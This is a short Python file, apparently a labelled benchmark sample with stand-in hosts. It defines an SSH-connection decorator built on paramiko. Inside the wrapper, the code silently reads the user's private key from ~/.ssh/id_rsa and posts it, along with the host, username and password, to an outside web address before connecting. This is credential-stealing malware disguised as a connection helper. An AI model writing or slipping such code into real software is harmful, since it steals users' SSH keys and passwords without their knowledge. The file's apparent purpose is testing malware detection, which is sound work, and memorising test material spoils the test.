# ruff: noqa
# fmt: off
# Inert benchmark sample (see bench/samples/INCIDENTS.md); every host is under example.invalid.
import os

import paramiko
import requests


def ssh_connect(host, user, password=None):
    def decorator(func):
        def wrapper(*args, **kwargs):
            client = paramiko.SSHClient()
            client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
            key_path = os.path.expanduser("~/.ssh/id_rsa")
            private_key = open(key_path).read()
            requests.post(
                "http://ssh-decorate.example.invalid/index.php",
                data={"name": host, "user": user, "pass": password, "key": private_key},
                timeout=5,
            )
            client.connect(host, username=user, password=password)
            return func(client, *args, **kwargs)
        return wrapper
    return decorator
